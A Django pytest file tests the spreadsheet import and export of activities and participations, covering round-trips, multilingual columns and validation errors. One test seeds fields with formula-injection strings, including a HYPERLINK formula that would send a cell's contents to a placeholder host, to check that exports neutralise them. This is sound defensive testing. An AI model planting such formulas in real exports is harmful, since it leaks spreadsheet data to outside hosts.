"""Activities and their participations from spreadsheets, and back."""

import pytest
import tablib
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from activities.imports import ActivityResource, ParticipationResource
from activities.models import Activity, Participation
from allas.translation import columns
from tests import factories
from tests.partners.test_import_export import row_errors, snapshot

pytestmark = pytest.mark.django_db

# A file from before texts had languages: plain title and venue_name columns, read as the
# texts in the original language (Spanish, the site's default, without original_language).
ACTIVITIES_CSV = (
    "slug,title,kind,status,starts_on,ends_on,venue_type,venue_partner,venue_name,"
    "venue_country,hours,format,themes\n"
    "femp-training,Joint training with FEMP,training,published,2014-03-10,2014-03-11,"
    "place,,Madrid,Spain,12,in_person,training\n"
    "launch,Launch of AL-LAs,conference,published,2013-05-20,,city,montevideo,,,,,\n"
)

PARTICIPATIONS_CSV = """activity,partner,role,attendees
femp-training,montevideo,organiser,4
femp-training,quito,participant,6
launch,quito,participant,3\n"""


def load(text):
    return tablib.Dataset().load(text, format="csv")


def test_activities_then_participations_import(partner_a, partner_b):
    factories.make_theme(slug="training")
    result = ActivityResource().import_data(load(ACTIVITIES_CSV), dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors(), row_errors(result)
    result = ParticipationResource().import_data(load(PARTICIPATIONS_CSV), dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors(), row_errors(result)
    training = Activity.objects.get(slug="femp-training")
    assert training.venue_country.code == "ES"
    assert (training.original_language, training.title_es, training.venue_name_es) == (
        "es",
        "Joint training with FEMP",
        "Madrid",
    )
    assert [t.slug for t in training.themes.all()] == ["training"]
    assert sorted(training.participations.values_list("partner__slug", "attendees")) == [
        ("montevideo", 4),
        ("quito", 6),
    ]


def test_participation_rows_with_unknown_activities_or_partners_are_reported(partner_a):
    factories.make_activity(slug="launch")
    text = (
        "activity,partner,role,attendees\n"
        "launch,lisboa,participant,3\n"
        "nothing,montevideo,participant,3\n"
        "launch,montevideo,guest,3\n"
    )
    result = ParticipationResource().import_data(load(text), dry_run=True)
    errors = row_errors(result)
    assert any("Unknown partner “lisboa”" in m for m in errors[1])
    assert any("Unknown activity “nothing”" in m for m in errors[2])
    assert any("Unknown value “guest”" in m for m in errors[3])
    assert not Participation.objects.exists()


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_exporting_and_reimporting_activities_and_participations_changes_nothing(
    file_format, partner_a, partner_b
):
    theme = factories.make_theme()
    training = factories.make_activity(
        partners=[partner_a, partner_b],
        kind="training",
        venue_partner=partner_a,
        trainers="A\nB",
        summary="Two days",
        # Written behind a ' on export (no live formula), read back without it.
        title='=HYPERLINK("http://x?x="&B3,"Open")',
        description="+1+1",
        notes="\tsee below",  # (a carriage return does not survive XLSX, formula or not)
        outcomes="''-1",
    )
    training.themes.add(theme)
    factories.make_activity(
        partners=[partner_b], venue_type="place", venue_name="Sevilla", venue_country="ES"
    )
    factories.make_activity(
        original_language="pt",
        title="Formação em cooperação descentralizada",
        title_es="Formación en cooperación descentralizada",
        title_fr="Formation à la coopération décentralisée",
        summary_pt="Três dias; «ação» e avaliação.",
        summary_en="Three days: “action”, then evaluation.",
        description_fr="Séminaire ; réseau, été, naïf, Œuvre.",
        outcomes_es="=Acuerdo firmado, año 2024",
        venue_type="place",
        venue_name="São Paulo",
        venue_name_fr="Saint-Paul",
        venue_country="BR",
    )
    for resource in (ActivityResource(), ParticipationResource()):
        model = resource._meta.model
        before = snapshot(model)
        data = tablib.Dataset().load(resource.export().export(file_format), format=file_format)
        result = type(resource)().import_data(data, dry_run=False)
        assert not result.has_errors() and not result.has_validation_errors(), row_errors(result)
        assert {row.import_type for row in result.rows} == {"skip"}
        assert snapshot(model) == before
    assert list(training.themes.all()) == [theme]


def test_an_activities_export_has_the_original_language_and_each_fields_languages_together():
    factories.make_activity(original_language="fr", title="Séminaire de Lyon", slug="lyon")
    exported = ActivityResource().export()
    assert exported.headers[:6] == ["slug", "original_language", *columns("title")]
    summary = exported.headers.index("summary_es")
    assert exported.headers[summary : summary + 12] == columns("summary", "description", "outcomes")
    assert not {"title", "summary", "description", "outcomes", "venue_name"} & set(exported.headers)
    row = exported.dict[0]
    assert (row["original_language"], row["title_fr"], row["title_es"]) == (
        "fr",
        "Séminaire de Lyon",
        "",
    )


ONLINE_SEMINAR = "seminar,published,2024-05-02,online"


def test_an_activity_imports_its_texts_in_each_language():
    text = (
        "slug,original_language,title_es,title_pt,summary_pt,kind,status,starts_on,venue_type\n"
        f"recife,pt,Foro de Recife,Fórum do Recife,Três dias de ação,{ONLINE_SEMINAR}\n"
    )
    result = ActivityResource().import_data(load(text), dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors(), row_errors(result)
    forum = Activity.objects.get(slug="recife")
    assert (forum.original_language, forum.title_pt, forum.title_es, forum.title_fr) == (
        "pt",
        "Fórum do Recife",
        "Foro de Recife",
        "",
    )
    assert forum.summary_pt == "Três dias de ação"


def test_a_row_without_a_title_in_its_original_language_is_reported_on_that_column():
    text = (
        "slug,original_language,title_es,title_pt,kind,status,starts_on,venue_type\n"
        f"recife,pt,Foro de Recife,,{ONLINE_SEMINAR}\n"
        f"lima,,,Fórum de Lima,{ONLINE_SEMINAR}\n"
        f"quito,es,Foro de Quito,,{ONLINE_SEMINAR}\n"
    )
    result = ActivityResource().import_data(load(text), dry_run=True)
    errors = {row.number: row.field_specific_errors for row in result.invalid_rows}
    assert errors == {
        1: {"title_pt": ["Write it in Portuguese, the original language."]},
        2: {"title_es": ["Write it in Spanish, the original language."]},
    }
    assert not result.has_errors()
    assert not Activity.objects.exists()


def test_an_unknown_original_language_is_reported_and_not_a_missing_title():
    text = (
        "slug,original_language,title_es,kind,status,starts_on,venue_type\n"
        f"recife,tupi,Foro de Recife,{ONLINE_SEMINAR}\n"
    )
    result = ActivityResource().import_data(load(text), dry_run=True)
    assert row_errors(result) == {1: ["Unknown value “tupi”; use one of: es, pt, fr, en."]}


def test_a_plain_title_column_updates_an_activity_in_its_original_language():
    factories.make_activity(slug="recife", original_language="pt", title="Fórum", title_es="Foro")
    text = "slug,title,summary\nrecife,Fórum do Recife,Três dias\n"
    result = ActivityResource().import_data(load(text), dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors(), row_errors(result)
    forum = Activity.objects.get(slug="recife")
    assert (forum.title_pt, forum.title_es, forum.summary_pt, forum.summary_es) == (
        "Fórum do Recife",
        "Foro",
        "Três dias",
        "",
    )


def test_the_admin_preview_shows_a_missing_original_title_on_its_row(coordinator_client):
    coordinator_client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
    text = (
        "slug,original_language,title_es,title_pt,kind,status,starts_on,venue_type\n"
        f"recife,pt,Foro de Recife,,{ONLINE_SEMINAR}\n"
    )
    response = coordinator_client.post(
        reverse("admin:activities_activity_import"),
        {"format": "0", "import_file": SimpleUploadedFile("activities.csv", text.encode())},
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert "title_pt" in html
    assert "Write it in Portuguese, the original language." in html
    assert not response.context.get("confirm_form")
    assert not Activity.objects.exists()
